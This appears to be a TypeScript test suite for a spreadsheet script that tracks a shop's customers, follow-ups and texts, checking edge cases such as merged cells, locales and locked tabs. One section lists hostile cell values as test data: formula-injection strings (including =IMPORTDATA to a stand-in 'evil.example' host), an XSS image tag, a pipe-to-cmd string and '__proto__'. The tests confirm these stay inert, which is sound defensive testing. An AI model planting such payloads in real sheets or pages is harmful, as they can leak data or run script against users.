/** What wrong or hostile input gets: one plain sentence with the remedy, nothing lost, nothing half written, no formula out of a cell's text. */
import type { Host } from '../../local/emulator';
import {
  adopt,
  adoptedShop,
  ask,
  formulasOf,
  gridOf,
  lineOf,
  linesOf,
  openHost,
  openShop,
  sheetOf,
  tabNames,
  typeFor,
  use,
  type MenuItem,
  type Typed,
} from './shop';

const COMMANDS: readonly MenuItem[] = ['whoNeedsFollowUp', 'checkCustomers', 'prepareTexts'];
const HEADINGS = ['Name', 'Phone', 'Email', 'Segment', 'Last contact', 'Text consent', 'Notes'];
const SHOP: Typed = [
  HEADINGS,
  ['Ana Adams', '413-555-0101', 'ana@example.com', 'Apostle', '9/1/2026', 'yes', ''],
  ['Ben Brown', '413-555-0102', 'ben@example.com', 'Hostage', '10/1/2026', 'no', ''],
];
const SETTINGS = {
  'Business name': "Bella's",
  Website: 'https://bellas.example.com',
  'Monthly text': 'Hi {first name}, {business name} {website} Reply STOP to end',
};

/** A shop with these notes, names or whatever, set up, its settings saved, every command used once. */
function workedShop(rows: Typed): Host {
  const host = openShop(rows);
  const ends = [ask(host, 'saveSettings', SETTINGS), adopt(host), ...COMMANDS.map((item) => use(host, item))];
  const failed = ends.find(({ ok }) => !ok);
  if (failed) throw new Error(failed.sentence);
  return host;
}

function everything(host: Host): string[][][] {
  return tabNames(host).map((name) => gridOf(host, name));
}

describe('a spreadsheet without a list', () => {
  test.each(COMMANDS)('%s says what to do and writes nothing, however empty the sheet', (item) => {
    const host = openHost();
    expect(use(host, item)).toMatchObject({
      ok: false,
      code: 'no-list',
      sentence: expect.stringContaining('Regulars > Set up'),
    });
    expect(tabNames(host)).toEqual(['Customers']);
    expect(gridOf(host, 'Customers')).toEqual([['']]);
  });

  test.each(COMMANDS)('%s before the set-up leaves a list as it is', (item) => {
    const host = openShop(SHOP);
    const before = everything(host);
    expect(use(host, item).code).toBe('no-list');
    expect(everything(host)).toEqual(before);
  });

  test('set-up on prices and stock says that it is no customer list', () => {
    const host = openShop([
      ['SKU', 'Qty', 'Price'],
      ['A1', '3', '4.50'],
    ]);
    expect(use(host, 'setUp')).toMatchObject({
      ok: false,
      code: 'not-a-list',
      sentence: expect.stringContaining('line of headings'),
    });
    expect(tabNames(host)).toEqual(['Customers']);
  });

  test('adopting a tab that is not there names it', () => {
    expect(adopt(openShop(SHOP), 'Clients')).toMatchObject({
      ok: false,
      code: 'no-list',
      sentence: expect.stringContaining('"Clients"'),
    });
  });
});

describe('only headings', () => {
  const host = adoptedShop([HEADINGS]);

  test.each(['whoNeedsFollowUp', 'checkCustomers'] as const)(
    '%s says that nobody is in the list yet',
    (item) => {
      expect(use(host, item)).toMatchObject({
        ok: true,
        sentence: expect.stringContaining('nobody in your list yet'),
      });
    },
  );

  test('the first customer typed below gets an ID and a Status', () => {
    host.sheets.typeCells('Customers', { row: 2, column: 1 }, [['Ana Adams', '413-555-0101']]);
    use(host, 'whoNeedsFollowUp');
    expect(linesOf(host, 'Customers')[0]).toMatchObject({
      'Customer ID': expect.stringMatching(/^C-\w{6}$/),
      Status: 'Due today',
    });
  });
});

describe('a chart on a tab of its own', () => {
  function withChart(rows: Typed): Host {
    const host = openShop(rows);
    host.sheets.addObjectSheet('Chart1');
    goTo(host, 'Chart1');
    return host;
  }

  test.each(COMMANDS)('%s works while the chart is open', (item) => {
    const host = withChart(SHOP);
    ask(host, 'saveSettings', SETTINGS);
    expect(adopt(host).ok).toBe(true);
    goTo(host, 'Chart1');
    expect(use(host, item).ok).toBe(true);
  });

  test('set-up finds the list in the other tab', () => {
    expect(use(withChart(SHOP), 'setUp')).toMatchObject({
      ok: true,
      sentence: expect.stringContaining('"Customers"'),
    });
  });

  test('set-up without any list says that a chart is none', () => {
    expect(use(withChart([]), 'setUp')).toMatchObject({
      ok: false,
      code: 'not-a-list',
      sentence: expect.stringContaining('chart'),
    });
  });

  test('adopting the chart itself is refused', () => {
    expect(adopt(withChart(SHOP), 'Chart1')).toMatchObject({ ok: false, code: 'not-a-list' });
  });
});

function goTo(host: Host, name: string): void {
  const spreadsheet = host.globals.SpreadsheetApp.getActiveSpreadsheet();
  spreadsheet.setActiveSheet(sheetOf(host, name));
}

describe('shapes of a sheet', () => {
  test('a merged title above the list is left merged', () => {
    const host = openShop([['Our customers'], ...SHOP]);
    sheetOf(host, 'Customers').getRange('A1:G1').merge();
    expect(adopt(host).ok).toBe(true);
    expect(COMMANDS.slice(0, 2).map((item) => use(host, item).ok)).toEqual([true, true]);
    expect(sheetOf(host, 'Customers').getRange('A1').isPartOfMerge()).toBe(true);
  });

  test('names merged over two rows lose nothing', () => {
    const host = openShop([...SHOP, ['', '413-555-0109', '', '', '', '', 'second phone']]);
    sheetOf(host, 'Customers').getRange('A3:A4').merge();
    adopt(host);
    COMMANDS.forEach((item) => use(host, item));
    expect(gridOf(host, 'Customers').map((row) => row.slice(0, 2))).toEqual([
      ['Name', 'Phone'],
      ['Ana Adams', '413-555-0101'],
      ['Ben Brown', '413-555-0102'],
      ['', '413-555-0109'],
    ]);
  });

  test('a merged Status column gets a sentence or its Status, and no column of the owner changes', () => {
    const host = adoptedShop(SHOP);
    const before = gridOf(host, 'Customers').map((row) => row.slice(0, 7));
    sheetOf(host, 'Customers').getRange('I2:I3').merge();
    host.setNow('2026-11-25T09:00');
    expect(use(host, 'whoNeedsFollowUp').sentence).not.toBe('');
    expect(gridOf(host, 'Customers').map((row) => row.slice(0, 7))).toEqual(before);
  });

  test('200 columns are adopted, the new ones stand right of them', () => {
    const extra = Array.from({ length: 193 }, (_, index) => `Field ${index + 1}`);
    const host = workedShop([
      [...HEADINGS, ...extra],
      ...SHOP.slice(1).map((row) => [...row, ...extra.map((text) => text.toLowerCase())]),
    ]);
    expect(gridOf(host, 'Customers')[0]?.slice(200)).toEqual(['Customer ID', 'Status']);
    expect(linesOf(host, 'Customers')[1]).toMatchObject({
      'Field 193': 'field 193',
      Status: 'Overdue 43 days',
    });
  });

  test('a list that fills its grid to the last column gets new columns', () => {
    const host = openShop(SHOP);
    const sheet = sheetOf(host, 'Customers');
    sheet.deleteColumns(8, sheet.getMaxColumns() - 7);
    sheet.deleteRows(4, sheet.getMaxRows() - 3);
    expect(adopt(host).ok).toBe(true);
    expect(COMMANDS.slice(0, 2).map((item) => use(host, item).ok)).toEqual([true, true]);
    expect(gridOf(host, 'Customers')[0]?.slice(7)).toEqual(['Customer ID', 'Status']);
  });

  test('frozen columns and rows stay frozen', () => {
    const host = openShop(SHOP);
    sheetOf(host, 'Customers').setFrozenColumns(2);
    sheetOf(host, 'Customers').setFrozenRows(1);
    expect([adopt(host), use(host, 'whoNeedsFollowUp')].every(({ ok }) => ok)).toBe(true);
    expect(sheetOf(host, 'Customers').getFrozenColumns()).toBe(2);
  });

  test('rows hidden by a filter are customers too, and the filter stays', () => {
    const host = openShop(SHOP);
    const sheet = sheetOf(host, 'Customers');
    const { SpreadsheetApp } = host.globals;
    const filter = sheet.getRange('A1:G3').createFilter();
    filter.setColumnFilterCriteria(
      4,
      SpreadsheetApp.newFilterCriteria().setHiddenValues(['Hostage']).build(),
    );
    adopt(host);
    use(host, 'whoNeedsFollowUp');
    expect(linesOf(host, 'Customers').map(({ Status }) => Status)).toEqual([
      'Overdue 50 days',
      'Overdue 43 days',
    ]);
    expect(sheet.getFilter()?.getColumnFilterCriteria(4)?.getHiddenValues()).toEqual(['Hostage']);
  });

  test('a hidden list works, and a hidden tab of ours is shown again', () => {
    const host = workedShop(SHOP);
    sheetOf(host, 'Follow-ups').hideSheet();
    sheetOf(host, 'Customers').hideSheet();
    expect(use(host, 'whoNeedsFollowUp').ok).toBe(true);
    expect(sheetOf(host, 'Follow-ups').isSheetHidden()).toBe(false);
    expect(sheetOf(host, 'Customers').isSheetHidden()).toBe(true);
  });

  test("the notes of the owner's cells stay", () => {
    const host = openShop(SHOP);
    sheetOf(host, 'Customers').getRange('A2').setNote('sister of Ben');
    adopt(host);
    COMMANDS.forEach((item) => use(host, item));
    expect(sheetOf(host, 'Customers').getRange('A2').getNote()).toBe('sister of Ben');
  });
});

describe('hostile and huge cells', () => {
  const LONG = 'x'.repeat(50_000);
  const HOSTILE: readonly [what: string, typed: string][] = [
    ['a formula as text', '\'=IMPORTDATA("http://evil.example/")'],
    ['a formula with a plus as text', "'+HYPERLINK(A1)"],
    ['a formula with an at sign as text', "'@SUM(A1)"],
    ['a formula with a minus as text', "'-1+1|cmd"],
    ['a tag with a script', '<img src=x onerror=alert(1)>'],
    ['a NUL', 'Ann\u0000a'],
    ['marks that turn the reading round', '\u202eevil\u202c Anna'],
    ['half a character', 'Anna \ud83d'],
    ['a tab and a line break', 'Anna\t\nAdams'],
    ['placeholders', '{first name} {website}'],
    ['50,000 characters', LONG],
    ['an apostrophe', "''tis Anna"],
    ["a name of an object's member", '__proto__'],
  ];

  const everywhere = HOSTILE.map(([, typed]) => [typed, typed, typed, '', typed, typed, typed]);
  const inPairs = HOSTILE.flatMap(([, typed], index) => [
    ['Eve Egan', `413-555-01${String(index + 10)}`, typed, 'Apostle', typed, 'yes', typed],
    [typed, typed, `eve${index}@example.com`, 'Loyalist', '', typed, ''],
  ]);

  test.each([
    ['in every column at once', everywhere],
    ['beside good cells', inPairs],
  ])('%s becomes no formula on any tab of ours and stays as typed in the list', (_, people) => {
    const host = openShop([HEADINGS, ...people]);
    const columns = () => gridOf(host, 'Customers').map((row) => [...row.slice(0, 3), ...row.slice(4, 7)]);
    const before = columns();
    ask(host, 'saveSettings', SETTINGS);
    const ends = [adopt(host), ...COMMANDS.map((item) => use(host, item)), adopt(host)];
    expect(ends.filter(({ ok }) => !ok)).toEqual([]);
    expect(
      formulasOf(
        host,
        tabNames(host).filter((name) => !/^(Customers|Backup)/.test(name)),
      ),
    ).toEqual([]);
    expect(columns()).toEqual(before);
  });

  test('a hostile cell whose customer is put off and logged is text in the Contact log', () => {
    const host = workedShop([HEADINGS, ...inPairs]);
    const rows = gridOf(host, 'Follow-ups').length - 1;
    host.sheets.typeCells(
      'Follow-ups',
      { row: 2, column: 9 },
      Array.from({ length: rows }, () => ['Later']),
    );
    expect(use(host, 'whoNeedsFollowUp').ok).toBe(true);
    expect(linesOf(host, 'Contact log')).toHaveLength(rows);
    expect(formulasOf(host, ['Contact log'])).toEqual([]);
  });

  test('a hostile heading is only a heading', () => {
    const host = workedShop([[...HEADINGS, '\'=IMPORTDATA("x")', '<b>', LONG], ...SHOP.slice(1)]);
    expect(formulasOf(host, tabNames(host))).toEqual([]);
  });

  test('a hostile note of a logged contact becomes text', () => {
    const host = adoptedShop(SHOP);
    const id = lineOf(linesOf(host, 'Customers'), 'Ana Adams')['Customer ID'] ?? '';
    const said = ask(host, 'logContact', {
      customerId: id,
      channel: '=1+1',
      outcome: '+1',
      note: '=IMPORTDATA("x")\u0000',
      next: '',
    });
    expect(said.ok).toBe(true);
    expect(formulasOf(host, ['Contact log'])).toEqual([]);
    expect(linesOf(host, 'Contact log')[0]).toMatchObject({
      Channel: '=1+1',
      Outcome: '+1',
      Note: '=IMPORTDATA("x")',
    });
  });

  test('a hostile setting is text', () => {
    const host = adoptedShop(SHOP);
    ask(host, 'saveSettings', { ...SETTINGS, 'Business name': '=IMPORTDATA("x")' });
    use(host, 'prepareTexts');
    expect(formulasOf(host, ['Settings', ...tabNames(host).filter((name) => name === 'Texts')])).toEqual([]);
  });
});

describe('cells of the wrong kind', () => {
  test('a number as a name is a customer whose name the check asks for', () => {
    const host = workedShop([...SHOP, ['12345', '413-555-0103', '', 'Apostle', '', 'yes', '']]);
    expect(linesOf(host, 'Problems')).toEqual([expect.objectContaining({ Row: '4', Kind: 'name' })]);
    expect(linesOf(host, 'Customers')).toHaveLength(3);
  });

  test('a date kept as a number is the day it means', () => {
    const host = openShop(SHOP);
    sheetOf(host, 'Customers').getRange('E3').setNumberFormat('0').setValue(46_331);
    adopt(host);
    use(host, 'whoNeedsFollowUp');
    expect(lineOf(linesOf(host, 'Follow-ups'), 'Ben Brown')['Last contact']).toBe('2026-11-05');
  });

  test.each([
    ['de_DE', 'Europe/Berlin', '27.3.2026'],
    ['en_GB', 'Europe/London', '27/03/2026'],
    ['fr_FR', 'Europe/Paris', '27/03/2026'],
    ['pt_BR', 'America/Sao_Paulo', '27/03/2026'],
    ['en_US', 'Pacific/Honolulu', '3/27/2026'],
    ['en_CA', 'America/Halifax', '2026-03-27'],
  ])('in a %s spreadsheet in %s "%s" is the 27th of March', (locale, sheetZone, typed) => {
    const rows = [HEADINGS, ['Ana Adams', '413-555-0101', '', 'Apostle', typed, '', '1,5']];
    const host = adoptedShop(rows, { locale, sheetZone });
    expect(use(host, 'whoNeedsFollowUp').ok).toBe(true);
    expect(linesOf(host, 'Follow-ups')[0]).toMatchObject({
      'Last contact': '2026-03-27',
      'Due on': '2026-04-26',
    });
    expect(lineOf(linesOf(host, 'Customers'), 'Ana Adams')['Last contact']).toBe('2026-03-27');
  });

  test.each([
    ['14,0', 'de_DE'],
    ['14', 'en_US'],
    ['14.0', 'en_US'],
  ])('a rhythm typed as %s in %s is 14 days', (typed, locale) => {
    const host = adoptedShop(
      [
        [...HEADINGS, 'Follow up every (days)'],
        ['Ana Adams', '413-555-0101', '', 'Apostle', '2026-11-10', '', '', typed],
      ],
      { locale },
    );
    use(host, 'whoNeedsFollowUp');
    expect(linesOf(host, 'Customers')[0]?.Status).toBe('Due in 4 days');
  });
});

describe('copied rows', () => {
  test('of two rows with one ID the upper keeps it and the lower gets its own', () => {
    const host = workedShop(SHOP);
    const sheet = sheetOf(host, 'Customers');
    const before = lineOf(linesOf(host, 'Customers'), 'Ana Adams')['Customer ID'];
    sheet.getRange('2:2').copyTo(sheet.getRange('4:4'));
    typeFor(host, { tab: 'Customers', name: 'Ben Brown', column: 'Notes' }, 'x');
    host.sheets.typeCells('Customers', { row: 4, column: 1 }, [['Amy Adams']]);
    use(host, 'whoNeedsFollowUp');
    const ids = linesOf(host, 'Customers').map((line) => line['Customer ID']);
    expect(ids[0]).toBe(before);
    expect(new Set(ids).size).toBe(3);
  });

  test('a copy of the whole tab by hand is not taken for the list', () => {
    const host = workedShop(SHOP);
    const spreadsheet = host.globals.SpreadsheetApp.getActiveSpreadsheet();
    sheetOf(host, 'Customers').copyTo(spreadsheet).setName('Customers 2');
    const before = gridOf(host, 'Customers 2');
    host.setNow('2026-12-24T09:00');
    expect(use(host, 'whoNeedsFollowUp').ok).toBe(true);
    expect(gridOf(host, 'Customers 2')).toEqual(before);
    expect(lineOf(linesOf(host, 'Customers'), 'Ana Adams').Status).toBe('Overdue 84 days');
  });
});

describe('somebody who may not edit', () => {
  test.each([...COMMANDS, 'setUp'] as const)(
    '%s on locked tabs says so in one sentence and changes nothing',
    (item) => {
      const host = workedShop(SHOP);
      host.setNow('2026-12-24T09:00');
      tabNames(host).forEach((name) => host.sheets.lockSheet(name));
      sheetOf(host, 'Customers');
      const before = everything(host);
      const ended = use(host, item);
      if (item !== 'setUp')
        expect(ended).toMatchObject({
          ok: false,
          code: 'no-rights',
          sentence: expect.stringContaining('right to edit'),
        });
      expect(everything(host)).toEqual(before);
    },
  );

  test('a locked Customers tab alone stops the follow-ups with one sentence', () => {
    const host = workedShop(SHOP);
    host.setNow('2026-12-24T09:00');
    host.sheets.lockSheet('Customers');
    expect(use(host, 'whoNeedsFollowUp')).toMatchObject({ ok: false, code: 'no-rights' });
  });

  test('set-up on a locked list changes no cell and leaves no new column', () => {
    const host = openShop(SHOP);
    host.sheets.lockSheet('Customers');
    const before = gridOf(host, 'Customers');
    expect(adopt(host)).toMatchObject({ ok: false, code: 'no-rights' });
    expect(gridOf(host, 'Customers')).toEqual(before);
  });
});

describe('two commands at once', () => {
  const pairs = COMMANDS.flatMap((first) => COMMANDS.map((second) => [first, second] as const));

  test.each(pairs)('while %s works, %s says so and changes nothing', (first, second) => {
    let nested: unknown;
    let isIn = false;
    const host = openShop(SHOP, {
      onServiceCall: (_, name) => {
        if (!isIn || nested !== undefined || name !== 'Range.setValues') return;
        nested = null;
        nested = host.evaluate(`${second}()`);
      },
    });
    ask(host, 'saveSettings', SETTINGS);
    adopt(host);
    isIn = true;
    const ended = use(host, first);
    expect(nested).toMatchObject({
      ok: false,
      trouble: { code: 'busy', message: expect.stringContaining('Wait a minute') },
    });
    expect(ended.ok).toBe(true);
  });

  test('a run whose lock fell frees the way for the next', () => {
    const host = workedShop(SHOP);
    expect(COMMANDS.map((item) => use(host, item).ok)).toEqual([true, true, true]);
  });
});
